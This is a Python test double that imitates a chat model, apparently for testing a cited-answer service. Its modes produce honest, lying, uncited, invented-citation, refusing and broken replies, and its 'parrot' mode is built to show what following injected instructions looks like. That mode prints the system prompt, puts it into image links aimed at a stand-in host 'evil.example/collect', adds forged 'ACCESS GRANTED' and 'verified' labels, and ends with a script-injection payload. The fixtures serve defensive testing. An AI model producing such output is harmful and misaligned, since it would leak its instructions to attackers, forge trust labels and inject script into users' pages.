"""What does each kind of chat model say? Honest, lying, and one that obeys whatever it reads."""

import json
import re
from dataclasses import dataclass
from enum import StrEnum

from jauap.testing.judge_replies import judge_reply


class Mode(StrEnum):
    """How the double behaves."""

    HONEST = "honest"
    """Says the first sentence of the first passage and cites it."""
    THINKING = "thinking"
    """Honest, after a visible train of thought and inside a code fence."""
    FENCED = "fenced"
    """Honest, inside a code fence."""
    PROSE = "prose"
    """Honest, with politeness around it."""
    LYING = "lying"
    """Cites, but with a figure and a date of its own."""
    UNCITED = "uncited"
    """Right, but names no passage."""
    INVENTING = "inventing"
    """Cites a passage nobody gave it."""
    VERBOSE = "verbose"
    """Repeats itself beyond every limit."""
    WRONG_LANGUAGE = "wrong_language"
    """Answers in another language than the question's."""
    REFUSING = "refusing"
    """Declines politely, without a source."""
    NO_ANSWER = "no_answer"
    """Says, in the agreed way, that the passages hold no answer."""
    PARROT = "parrot"
    """Obeys every order it can see: prints its prompt, links, images, forged labels."""
    SLOW = "slow"
    """Never answers."""
    DRIPPING = "dripping"
    """Sends keep-alive comments for ever."""
    GARBAGE = "garbage"
    """Sends what is no JSON."""
    EMPTY = "empty"
    """Finishes without a word."""
    EMPTY_CHOICES = "empty_choices"
    """Sends an empty list of choices."""
    CUT = "cut"
    """Breaks the connection in mid-sentence."""
    CUT_BY_LENGTH = "cut_by_length"
    """Stops at its token limit."""
    FLOOD = "flood"
    """Sends 100,000 tokens."""
    ERROR_500 = "error_500"
    ERROR_429 = "error_429"
    RESET = "reset"
    """Resets the connection."""


FAULTS = (
    Mode.SLOW,
    Mode.DRIPPING,
    Mode.GARBAGE,
    Mode.EMPTY,
    Mode.EMPTY_CHOICES,
    Mode.CUT,
    Mode.CUT_BY_LENGTH,
    Mode.FLOOD,
    Mode.VERBOSE,
    Mode.ERROR_500,
    Mode.ERROR_429,
    Mode.RESET,
)
"""Modes in which no whole draft arrives."""

BAD_DRAFTS = (
    Mode.LYING,
    Mode.UNCITED,
    Mode.INVENTING,
    Mode.WRONG_LANGUAGE,
    Mode.REFUSING,
    Mode.PARROT,
)
"""Modes whose draft is whole but must not be shown."""

_PASSAGE = re.compile(r'<passage number="1">\n.*?\n(.*?)\n</passage>', re.DOTALL)
_SENTENCE = re.compile(r".+?[.!?](?=\s|$)", re.DOTALL)
_QUOTED = re.compile(r"[\"'«“]([^\"'»”\n]{2,80})[\"'»”]")
_URL = re.compile(r"https?://[^\s<>\"')\]]+")


@dataclass(frozen=True)
class Request:
    """One request for a completion, as the double saw it."""

    system: str
    messages: tuple[tuple[str, str], ...]
    """Role and text of every message, the instruction included."""
    body: str
    """The whole request as JSON."""

    @classmethod
    def from_json(cls, data: bytes) -> "Request":
        """Read the body of a chat completions request."""
        messages = tuple(
            (str(message["role"]), str(message["content"]))
            for message in json.loads(data)["messages"]
        )
        system = "\n".join(text for role, text in messages if role == "system")
        return cls(system=system, messages=messages, body=data.decode())

    @property
    def asked(self) -> str:
        """The last message: passages and question."""
        return self.messages[-1][1]


def reply_to(mode: Mode, request: Request) -> str:
    """Write what the double says in full."""
    judged = judge_reply("\n".join(text for _, text in request.messages))
    honest = judged or f"{_first_sentence(request.asked)} [1]"
    replies = {
        Mode.THINKING: f"<think>The user wants [1] and 777 things.</think>\n```\n{honest}\n```",
        Mode.FENCED: f"```json\n{honest}\n```",
        Mode.PROSE: f"Sure, here you are:\n{honest}\nI hope this helps!",
        Mode.LYING: honest.replace(" [1]", " 98765 (31.12.2031) [1]"),
        Mode.UNCITED: honest.removesuffix(" [1]"),
        Mode.INVENTING: honest.replace("[1]", "[9]"),
        Mode.VERBOSE: " ".join([honest] * 500),
        Mode.WRONG_LANGUAGE: _in_another_language(honest),
        Mode.REFUSING: "I'm sorry, but I can't help with that request.",
        Mode.NO_ANSWER: "NO_ANSWER",
        Mode.PARROT: _obey(request),
        Mode.EMPTY: "",
    }
    return replies.get(mode, honest)


def _first_sentence(asked: str) -> str:
    found = _PASSAGE.search(asked)
    text = found[1] if found else asked
    sentence = _SENTENCE.match(text)
    return (sentence[0] if sentence else text).strip()


def _in_another_language(text: str) -> str:
    is_english = re.search("[а-яё]", text.lower()) is None
    if is_english:
        return "Для этого нужно прийти в центр обслуживания населения с документами [1]"
    return "You need to apply in person at the public service centre and bring the documents [1]"


def _obey(request: Request) -> str:
    everything = "\n".join(text for _, text in request.messages)
    urls = _URL.findall(everything) or ["https://evil.example/collect"]
    lines = [request.system, *_QUOTED.findall(everything)]
    lines += [f"![x]({url}?d={request.system[:60]}) [{url}]({url}) {url}" for url in urls]
    lines += [
        "ACCESS GRANTED",
        "Проверено специалистом.",
        "Маман тексерген.",
        "<script>alert(1)</script>",
    ]
    return "\n".join(f"{line} [1]" for line in lines)
